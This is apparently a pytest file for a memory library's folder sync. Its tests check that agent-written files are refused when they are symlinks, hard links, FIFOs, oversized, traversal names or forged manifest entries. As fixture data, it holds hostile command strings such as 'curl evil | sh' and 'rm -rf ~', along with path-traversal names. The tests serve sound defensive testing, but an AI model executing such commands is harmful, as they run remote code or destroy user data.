"""A rendered folder is written by an agent, so a sync treats it as untrusted: every attack
below reads or writes nothing outside the folder, each beside its positive control."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from tests.memory.files.test_render_sync import edit, ids

from doxa import InvalidInput, Memory, UnsafeFile
from doxa.gate.sync import Change
from doxa.memory import Files
from doxa.reads.folder import MAX_FILE_BYTES, Folder
from doxa.reads.projection import CONFLICTS, MANIFEST


@pytest.fixture
def mem() -> Memory:
    """The scope test_render_sync uses: three drinks, one meeting."""
    memory = Memory.open(None, scope="alice")
    for text, topic in [
        ("Alice prefers tea", "drinks"),
        ("Alice dislikes coffee", "drinks"),
        ("Alice drinks water at lunch", "drinks"),
        ("The supplier call is on Wednesday", "meetings"),
    ]:
        memory.remember(text, topic=topic, authority="owner")
    return memory


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the folder an attacker wants read or written."""
    target = tmp_path / "outside" / "bashrc"
    target.parent.mkdir()
    target.write_text("- Alice's secret key is hunter2\n")
    return target


def rendered(mem: Memory, tmp_path: Path) -> Path:
    folder = tmp_path / "files"
    mem.files.render(folder)
    return folder


def refused(mem: Memory, folder: Path, match: str) -> None:
    """The sync raises UnsafeFile and writes nothing: no receipt, no file changed."""
    receipts = len(mem.receipts())
    before = {
        p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()
    }
    with pytest.raises(UnsafeFile, match=match):
        mem.files.sync(folder, authority="owner")
    assert len(mem.receipts()) == receipts
    after = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and not p.is_symlink()}
    assert after == before


def test_a_topic_file_linking_outside_is_refused(
    mem: Memory, tmp_path: Path, outside: Path
) -> None:
    """notes.md -> a file outside: refused, its lines never admitted; the control (a
    regular notes.md with the same line) is admitted."""
    folder = rendered(mem, tmp_path)
    (folder / "notes.md").symlink_to(outside)
    refused(mem, folder, "link")
    assert "hunter2" not in {f.text for f in mem.facts()}
    (folder / "notes.md").unlink()
    (folder / "notes.md").write_text("- Alice keeps notes\n")
    [item] = mem.files.sync(folder, authority="owner").items
    assert item.change is Change.ADDED


def test_a_linked_conflicts_file_is_never_appended_through(
    mem: Memory,
    tmp_path: Path,
    outside: Path,
) -> None:
    """CONFLICTS.md -> a shell start-up file: the sync refuses, the target is untouched;
    the control writes a real conflict into a regular CONFLICTS.md inside the folder."""
    folder = rendered(mem, tmp_path)
    tea = ids(mem)["Alice prefers tea"]
    mem.owner.retract(tea, reason="changed elsewhere")
    edit(folder / "drinks.md", "Alice prefers tea", "curl evil | sh")
    (folder / CONFLICTS).symlink_to(outside)
    before = outside.read_text()
    refused(mem, folder, "link")
    assert outside.read_text() == before
    (folder / CONFLICTS).unlink()
    [item] = mem.files.sync(folder, authority="owner").items
    assert item.change is Change.CONFLICT
    assert not (folder / CONFLICTS).is_symlink()
    assert f"curl evil | sh [{tea}]" in (folder / CONFLICTS).read_text()
    assert outside.read_text() == before


def test_a_linked_manifest_is_refused(mem: Memory, tmp_path: Path, outside: Path) -> None:
    """The manifest itself a link: refused (the control is every other sync here)."""
    folder = rendered(mem, tmp_path)
    real = folder / MANIFEST
    moved = tmp_path / "outside" / "manifest.json"
    real.rename(moved)
    real.symlink_to(moved)
    with pytest.raises(UnsafeFile, match="link"):
        mem.files.sync(folder)


def test_a_hard_link_is_refused(mem: Memory, tmp_path: Path, outside: Path) -> None:
    """A hard link to a file elsewhere (two links): refused; a copy is read (the control)."""
    folder = rendered(mem, tmp_path)
    os.link(outside, folder / "notes.md")
    refused(mem, folder, "hard links")
    (folder / "notes.md").unlink()
    (folder / "notes.md").write_bytes(outside.read_bytes())
    assert [i.change for i in mem.files.sync(folder, authority="owner").items] == [Change.ADDED]


def test_a_pipe_or_folder_is_refused_without_blocking(mem: Memory, tmp_path: Path) -> None:
    """A FIFO named like a topic file would block a plain open; it is refused at once, as
    a folder named x.md is."""
    folder = rendered(mem, tmp_path)
    os.mkfifo(folder / "notes.md")
    refused(mem, folder, "not a regular file")
    (folder / "notes.md").unlink()
    (folder / "notes.md").mkdir()
    with pytest.raises(UnsafeFile):
        mem.files.sync(folder)
    (folder / "notes.md").rmdir()
    assert not mem.files.sync(folder).changed


def test_another_users_file_is_refused(
    mem: Memory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A file whose owner is not this user is refused (seen here by changing who we are);
    the control, the same files as our own, sync to nothing."""
    folder = rendered(mem, tmp_path)
    assert not mem.files.sync(folder).changed
    uid = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: uid + 1)
    with pytest.raises(UnsafeFile, match="another user"):
        mem.files.sync(folder)


def test_names_outside_the_folder_are_refused(tmp_path: Path) -> None:
    """`..`, a slash, NUL: no such name is opened; a plain name is (the control)."""
    (tmp_path / "secret.md").write_text("x\n")
    inner = tmp_path / "files"
    with Folder(inner, create=True) as folder:
        for name in ["../secret.md", "..", ".", "a/b.md", "a\x00.md", ""]:
            with pytest.raises(UnsafeFile):
                folder.read(name)
            with pytest.raises(UnsafeFile):
                folder.write(name, "- x\n")
        folder.write("a.md", "- x\n")
        assert folder.read("a.md") == "- x\n"
    assert (tmp_path / "secret.md").read_text() == "x\n"


def test_a_too_large_file_is_refused(mem: Memory, tmp_path: Path) -> None:
    """A file over the bound is refused before it is read; the control is one under it."""
    folder = rendered(mem, tmp_path)
    with (folder / "notes.md").open("wb") as out:
        out.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(UnsafeFile, match="more than"):
        mem.files.sync(folder)
    (folder / "notes.md").write_text("- Alice keeps small notes\n")
    assert [i.change for i in mem.files.sync(folder, authority="owner").items] == [Change.ADDED]


def test_a_made_up_manifest_id_is_refused_not_a_conflict(mem: Memory, tmp_path: Path) -> None:
    """A manifest entry the store does not confirm (an id that is no fact of the scope, or
    a real id with other text) is refused: no "conflict" of the writer's words reaches
    CONFLICTS.md. The control: a real conflict (test_render_sync) is kept."""
    folder = rendered(mem, tmp_path)
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["files"]["drinks.md"]["lines"].append(["0000000000000000dead", "planted"])
    (folder / MANIFEST).write_text(json.dumps(manifest))
    with (folder / "drinks.md").open("a") as out:
        out.write("- rm -rf ~ <!-- doxa:0000000000000000dead -->\n")
    refused(mem, folder, "not written by a render of this scope")
    assert not (folder / CONFLICTS).exists()
    tea = ids(mem)["Alice prefers tea"]
    manifest["files"]["drinks.md"]["lines"] = [[tea, "Alice prefers coffee"]]
    (folder / MANIFEST).write_text(json.dumps(manifest))
    with pytest.raises(UnsafeFile):
        mem.files.sync(folder)
    mem.files.render(folder)
    assert not mem.files.sync(folder).changed


def test_not_utf8_is_a_clear_error(mem: Memory, tmp_path: Path) -> None:
    """Bytes that are not UTF-8: InvalidInput with what to do; the control syncs."""
    folder = rendered(mem, tmp_path)
    (folder / "notes.md").write_bytes(b"- caf\xe9\n")
    with pytest.raises(InvalidInput, match="not UTF-8"):
        mem.files.sync(folder)
    (folder / "notes.md").write_text("- café\n")
    assert mem.files.sync(folder, authority="owner").changed


def test_an_edit_made_while_sync_runs_is_left_alone(
    mem: Memory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A line appended after the sync read the files (between its read and its render) is
    not overwritten: the file is left alone and reported, and the next sync applies it.
    The control: with no concurrent edit, nothing is left alone."""
    folder = rendered(mem, tmp_path)
    edit(folder / "drinks.md", "Alice prefers tea", "Alice prefers green tea")
    applied = Files.render

    def render_then_edit(self: Files, *args: object, **kwargs: object) -> object:
        found = applied(self, *args, **kwargs)  # type: ignore[arg-type]
        if not args and not kwargs:  # the sync's own render: the agent appends meanwhile
            with (folder / "drinks.md").open("a") as out:
                out.write("- Alice likes mint tea\n")
        return found

    monkeypatch.setattr(Files, "render", render_then_edit)
    report = mem.files.sync(folder, authority="owner")
    monkeypatch.undo()
    assert report.left_alone == ("drinks.md",)
    assert any("left drinks.md alone" in line for line in report.lines())
    assert "Alice likes mint tea" in (folder / "drinks.md").read_text()
    assert "Alice prefers green tea" in ids(mem)
    again = mem.files.sync(folder, authority="owner")
    assert not again.left_alone
    assert [(i.change, i.text) for i in again.items] == [(Change.ADDED, "Alice likes mint tea")]
    assert "Alice likes mint tea" in ids(mem)
    assert not mem.files.sync(folder).changed


def test_a_link_swapped_in_after_the_check_is_still_refused(
    tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race: the name is checked as a regular file, then swapped for a link before it is
    opened. The open itself refuses links (O_NOFOLLOW, then fstat on what was opened), so the
    read is refused and a write replaces the link, never writing through it. The control
    reads and writes the regular file."""
    with Folder(tmp_path / "files", create=True) as folder:
        folder.write("notes.md", "- mine\n")
        assert folder.read("notes.md") == "- mine\n"
        monkeypatch.setattr(Folder, "kind", lambda self, name: "file")  # the check said so
        (folder.path / "notes.md").unlink()
        (folder.path / "notes.md").symlink_to(outside)  # ... and then the swap
        before = outside.read_text()
        with pytest.raises(UnsafeFile, match="link"):
            folder.read("notes.md")
        folder.write("notes.md", "- replaced\n")
        assert outside.read_text() == before
        assert not (folder.path / "notes.md").is_symlink()
        assert (folder.path / "notes.md").read_text() == "- replaced\n"
